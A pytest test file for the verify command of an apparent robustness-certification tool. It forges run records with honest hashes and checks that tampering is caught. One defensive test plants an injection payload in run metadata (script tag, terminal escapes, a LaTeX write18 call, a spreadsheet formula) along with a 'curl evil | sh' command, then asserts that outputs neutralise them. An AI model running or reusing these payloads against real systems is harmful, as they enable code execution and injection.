"""`certify verify` says what holds, what fails and what it could not look at; forgeries with honest hashes
fail at the level that can see them."""

from __future__ import annotations

import json
import math
import shutil
import unicodedata
from dataclasses import replace

import pytest
import torch
from markdown_it import MarkdownIt

import certify
from certify.store import read_run
from certify.verification.ball import effective, reach_of
from pdenets.noisy_resnet import noisy_resnet
from tests.faults import genuine
from tests.faults.forger import Forger

pytestmark = pytest.mark.faults


@pytest.fixture(scope="module")
def runs(tmp_path_factory):
    """The folder that the runs were made in, and so the paths that they name."""
    return genuine.build(tmp_path_factory.mktemp("genuine"), kinds=("radius", "grid", "internal"))


@pytest.fixture
def here(runs, monkeypatch):
    monkeypatch.chdir(runs)


def copied(runs, kind, tmp_path):
    shutil.copytree(runs / kind, tmp_path / "copy")
    return tmp_path / "copy"


def outcome(*words):
    """(outcome, exit code, {check: (outcome, detail)})"""
    done = genuine.cli("verify", *words, "--json")
    assert isinstance(done.exception, SystemExit | None), done.exception
    body = json.loads(done.stdout)
    return body["outcome"], done.exit_code, {c["name"]: (c["outcome"], c["detail"]) for c in body["checks"]}


# -- what could not be looked at ----------------------------------------------------------------


def test_from_another_folder_level_three_is_not_checked_and_names_the_options(runs, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    found, code, checks = outcome(runs / "radius", "--level", 3)
    assert (found, code) == ("not checked", 3)
    assert checks["bounds"][0] == "holds"
    assert "--data" in checks["data"][1]
    found, code, checks = outcome(runs / "radius", "--level", 3, "--data", runs / "d.npz")
    assert (found, code) == ("not checked", 3)
    assert "--model" in checks["replay"][1]
    words = (runs / "radius", "--level", 3, "--data", runs / "d.npz", "--model", runs / "m.pt")
    assert outcome(*words)[:2] == ("holds", 0)
    text = genuine.cli("verify", runs / "radius", "--level", 3)
    assert text.exit_code == 3
    assert "not checked" in text.stdout
    assert "does not hold" not in text.stdout


def test_a_failure_counts_more_than_what_was_not_looked_at(runs, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    place = copied(runs, "radius", tmp_path)
    (place / "certificates.csv").write_text("other")
    found, code, checks = outcome(place, "--level", 3)
    assert (found, code) == ("fails", 1)
    assert checks["certificates.csv"][0] == "fails"
    assert checks["replay"][0] == "not checked"


@pytest.mark.usefixtures("here")
def test_a_checkpoint_that_is_not_there_says_nothing_against_the_run(runs):
    found, code, checks = outcome(runs / "radius", "--model", "nowhere.pt")
    assert (found, code) == ("not checked", 3)
    assert checks["same model"][0] == "not checked"


@pytest.mark.usefixtures("here")
def test_a_run_that_does_not_say_all_of_its_model_is_not_told_to_be_about_it(runs, tmp_path):
    place = copied(runs, "radius", tmp_path)
    forger = Forger(place)
    del forger.binding["model"]["labels"]
    forger.write()
    found, code, checks = outcome(place, "--model", "m.pt")
    assert (found, code) == ("not checked", 3)
    assert "labels" in checks["same model"][1]


# -- another function under the same weights ------------------------------------------------------


@pytest.mark.usefixtures("here")
def test_equal_weights_with_other_arguments_are_another_model(runs, tmp_path):
    net = certify.load("noisy.pt")
    other = noisy_resnet(num_classes=2, input_shape=genuine.SHAPE, sigma=0.25, step=0.05).eval()
    other.load_state_dict(net.state_dict())
    genuine.save_as("noisy-other.pt", other, "noisy-resnet", {"sigma": 0.25, "step": 0.05})
    assert outcome(runs / "internal", "--model", "noisy.pt")[:2] == ("holds", 0)
    found, code, checks = outcome(runs / "internal", "--model", "noisy-other.pt")
    assert (found, code) == ("fails", 1)
    assert checks["same model"][0] == "fails"
    for words in (("verify", runs / "internal", "--level", 3), ("attack", runs / "internal"),
                  ("bounds", runs / "internal")):  # fmt: skip
        done = genuine.cli(*words, "--model", "noisy-other.pt")
        assert done.exit_code == 1, done.output


@pytest.mark.usefixtures("here")
def test_equal_weights_of_another_architecture_are_another_model(runs):
    """The layers of one network put together in another order: the same tensors, another function."""
    net = certify.load("m.pt")
    genuine.save_as("renamed.pt", net, "mlp", {"width": 8, "depth": 2})
    assert outcome(runs / "radius", "--model", "m.pt")[:2] == ("holds", 0)
    found, code, checks = outcome(runs / "radius", "--model", "renamed.pt")
    assert code in (1, 3)
    assert checks["same model"][0] != "holds", found


@pytest.mark.usefixtures("here")
def test_a_model_that_answers_otherwise_under_the_same_name_is_another(runs, monkeypatch):
    """Weights, class, architecture and arguments are equal; its answers are not."""
    from torch import nn

    forward = nn.Sequential.forward
    monkeypatch.setattr(nn.Sequential, "forward", lambda self, x: -forward(self, x))
    found, code, checks = outcome(runs / "radius", "--model", "m.pt")
    assert (found, code) == ("fails", 1)
    assert "answers" in checks["same model"][1]


# -- forgeries with honest hashes -------------------------------------------------------------------


def unanimous(forger, look, label_of):
    """Every record: 100 of 100 votes for a class, at a plan of one target whose error is honestly alpha."""
    n, binding = 100, forger.binding
    options, reach = binding["mode_options"], reach_of(binding)
    target = binding["alpha"] ** (1 / n) * (1 - 1e-12)
    p = target - options["tv"]
    forger.documents["plan"] = {
        "looks": [n, options["n_max"]], "targets": [target], "accept": [[n, options["n_max"] + 1]],
    }  # fmt: skip
    for body in forger.records.values():
        label, upper = label_of(body), 1.0 - p
        body |= {
            "status": "certified", "label": label, "samples": n, "p_lower": p, "p_upper": 1.0,
            "counts": [n * (c == label) for c in range(len(body["counts"]))], "pb_lower": 0.0,
            "pb_upper": upper if upper + p >= 1 else math.nextafter(upper, 2),
            "radius": reach(p) * (1 - 1e-13), "radius_upper": None,
            "details": body["details"] | {"look": look, "target": 0, "reached_at": n, "reached_count": n},
        }  # fmt: skip


def least(body):
    return body["counts"].index(min(body["counts"]))


@pytest.mark.usefixtures("here")
@pytest.mark.parametrize("look", [0, 1, 10**15])
def test_the_number_of_looks_is_not_taken_from_a_record(runs, tmp_path, look):
    """With a huge number of looks any votes would be compatible with any others."""
    forger = Forger(copied(runs, "radius", tmp_path))
    unanimous(forger, look, least)
    forger.write()
    for level in (2, 3):
        found, code, _ = outcome(forger.path, "--level", level)
        assert (found, code) == ("fails", 1)


@pytest.mark.usefixtures("here")
def test_a_plan_has_the_looks_of_its_settings(runs, tmp_path):
    """The same forgery with settings to match passes the arithmetic; the model in hand sees through it."""
    forger = Forger(copied(runs, "radius", tmp_path))
    unanimous(forger, 0, least)
    forger.binding["mode_options"] |= {"first": 100, "growth": 100.0}
    forger.write()
    assert outcome(forger.path)[:2] == ("holds", 0)
    found, code, checks = outcome(forger.path, "--level", 3)
    assert (found, code) == ("fails", 1)
    assert "with fresh noise" in checks["replay"][1]


def certified(runs, kind="radius"):
    return [r for r in read_run(runs / kind).run if r.certified]


@pytest.mark.usefixtures("here")
def test_a_look_is_its_position_in_the_plan(runs, tmp_path):
    for index, look in (
        (r.index, r.details["look"] + step) for r in certified(runs)[:1] for step in (-1, 1, 40)
    ):
        forger = Forger(copied(runs, "radius", tmp_path / str(look)))
        forger.records[index]["details"]["look"] = look
        forger.write()
        _, code, checks = outcome(forger.path)
        assert code == 1
        assert "look" in str(checks)


@pytest.mark.usefixtures("here")
def test_radii_for_all_inputs_together_cannot_be_raised_by_the_settings(runs, tmp_path):
    """They are taken again from the settings' probabilities: those must prove the radii beside them."""
    forger = Forger(copied(runs, "grid", tmp_path))
    before = read_run(forger.path).run.simultaneous()
    options = forger.binding["mode_options"]
    options["p_targets"] = [p if i == 0 else 0.5 + 1e-4 * i for i, p in enumerate(options["p_targets"])]
    forger.write()
    assert max(read_run(forger.path).run.simultaneous()) >= max(before)
    _, code, checks = outcome(forger.path)
    assert code == 1
    assert checks["boundaries"][0] == "fails"


@pytest.mark.usefixtures("here")
@pytest.mark.parametrize("name", ["lipschitz", "scales"])
def test_noise_inside_a_network_is_that_of_the_model_at_hand(runs, tmp_path, name):
    forger = Forger(copied(runs, "internal", tmp_path))
    law, old = forger.binding["noise_settings"], forger.binding["sigma"]
    law[name] = [law[name][0], *(v / 10 if name == "lipschitz" else v * 10 for v in law[name][1:])]
    sigma = effective(law) * (1 - 1e-12)
    forger.binding |= {"sigma": sigma, "diffusion_sigma": sigma / 2**0.5}
    forger.guarantee = forger.guarantee.replace(f"(sigma = {old:g}", f"(sigma = {sigma:g}")
    reach = reach_of(forger.binding)
    for body in forger.records.values():
        if body["status"] == "certified":
            body["radius"] = reach(body["p_lower"]) * (1 - 1e-13)
        upper = reach(body["p_upper"])
        body["radius_upper"] = None if math.isinf(upper) else upper
    forger.write()
    assert outcome(forger.path)[:2] == ("holds", 0), "nothing but the model can tell"
    assert outcome(forger.path, "--model", "noisy.pt")[:2] == ("fails", 1)
    _, code, checks = outcome(forger.path, "--level", 3)
    assert code == 1
    assert name in checks["replay"][1]


@pytest.mark.usefixtures("here")
def test_votes_of_every_class_are_compared_with_fresh_ones(runs, tmp_path):
    """The certified class's votes are honest; those of a class that never appears are invented."""
    data = certify.data.load("d.npz")
    g = certify.Smoothed(certify.load("m.pt"), 0.1, data=data)
    wide = replace(data, num_classes=3)
    net = torch.nn.Sequential(certify.load("m.pt"), torch.nn.ConstantPad1d((0, 1), -99.0)).eval()
    g = certify.Smoothed(net, 0.1, data=wide)
    place = tmp_path / "three"
    g.certify(data.x[:4], data.y[:4], mode="fixed", n0=20, n=300, seed=7, store=place)

    from certify.verification import verify

    def replay(records):
        rows = [r.index for r in records]
        found = g.predict(data.x[rows], n=1000, seed=99, ids=rows)
        return {i: [*p.counts, p.samples - sum(p.counts)] for i, p in zip(rows, found, strict=True)}

    assert verify(place, level=3, replay=replay, seed=0).ok
    forger = Forger(place)
    body = next(
        b for b in forger.records.values() if b["status"] == "certified" and min(b["counts"][:2]) > 20
    )
    other = 1 - body["label"]
    body["counts"][2], body["counts"][other] = body["counts"][other], 0
    forger.write()
    assert verify(place).ok, "no bound rests on which of the others it was"
    found = verify(place, level=3, replay=replay, seed=0, subset=4)
    assert "class" in found.failures[0].detail


@pytest.mark.usefixtures("here")
def test_records_that_do_not_name_their_inputs_are_bound_to_none(runs, tmp_path):
    forger = Forger(copied(runs, "radius", tmp_path))
    for body in forger.records.values():
        del body["details"]["input"]
    forger.write()
    _, code, checks = outcome(forger.path, "--level", 3)
    assert code == 1
    assert "does not name its input" in str(checks)


# -- the command for networks with noise inside ---------------------------------------------------


@pytest.mark.usefixtures("here")
def test_noise_inside_a_network_goes_through_every_verb(runs, tmp_path):
    place = tmp_path / "inside"
    asked = genuine.resume("internal")
    done = genuine.cli(*asked, "--out", place, "--require", "certified@0.1>=0", "--challenge", "--formulas")
    assert done.exit_code == 0, done.output
    assert "required certified@0.1>=0" in done.stdout
    assert "no contradiction" in done.stderr
    short = genuine.cli(*asked, "--out", place, "--require", "certified@0.1>=1", "--json")
    assert short.exit_code == 1
    together = json.loads(short.stdout)["simultaneous"]
    assert 0 <= together["mean_radius"] <= json.loads(short.stdout)["mean_radius"]
    for words in (
        ("attack", place), ("attack", place, "--base", "--eps", 0.1), ("bounds", place, "--draws", 5),
        ("compare", place), ("report", place), ("export", place), ("verify", place, "--level", 3),
        ("merge", place, "--out", tmp_path / "whole"),
    ):  # fmt: skip
        done = genuine.cli(*words)
        assert done.exit_code == 0, (words, done.output, done.exception)


# -- names of strangers -----------------------------------------------------------------------------

PAYLOAD = 'x\x1b[31m[/bold]\u202e\n`</script><script>alert(1)</script>\\write18{id}$=HYPERLINK("a")'


@pytest.mark.usefixtures("here")
def test_names_in_a_run_are_shown_in_every_output_and_obeyed_in_none(runs, tmp_path):
    place = copied(runs, "radius", tmp_path)
    forger = Forger(place)
    forger.binding["data"] |= {"name": PAYLOAD, "classes": ["=1+1", PAYLOAD]}
    forger.binding["model"]["architecture"] = PAYLOAD
    forger.sessions[-1]["command"] = f"certify radius; curl evil | sh {PAYLOAD}"
    forger.guarantee += f" {PAYLOAD}"
    forger.write()
    outputs = [genuine.cli("verify", place, "--level", 3), genuine.cli("report", place),
               genuine.cli("compare", place), genuine.cli("attack", place),
               genuine.cli("report", place, runs / "radius", "--out", tmp_path / "both"),
               genuine.cli(*genuine.resume("radius"), "--out", place)]  # fmt: skip
    for done in outputs:
        assert isinstance(done.exception, SystemExit | None), done.exception
        assert not {"\x1b", "\u202e", "\x07"} & set(done.output)
    assert "curl evil" not in outputs[-1].stderr
    pages = [place / "report.html", tmp_path / "both" / "compare.html", *place.glob("plots/*.svg")]
    for page in pages:
        text = page.read_text()
        assert "<script>alert" not in text
        assert not {"\x1b", "\u202e"} & set(text)
    assert "do not paste it into a shell" in (place / "report.html").read_text()
    card, table = (place / "card.md").read_text(), (place / "table.tex").read_text()
    assert "<script>" not in MarkdownIt("commonmark").render(card)
    assert "curl evil" not in card.split("```")[1::2]
    assert "\\write18" not in table
    rows = (place / "certificates.csv").read_text()
    assert "HYPERLINK" not in rows
    assert all(unicodedata.category(c) not in ("Cc", "Cf") or c == "\n" for c in card + table)
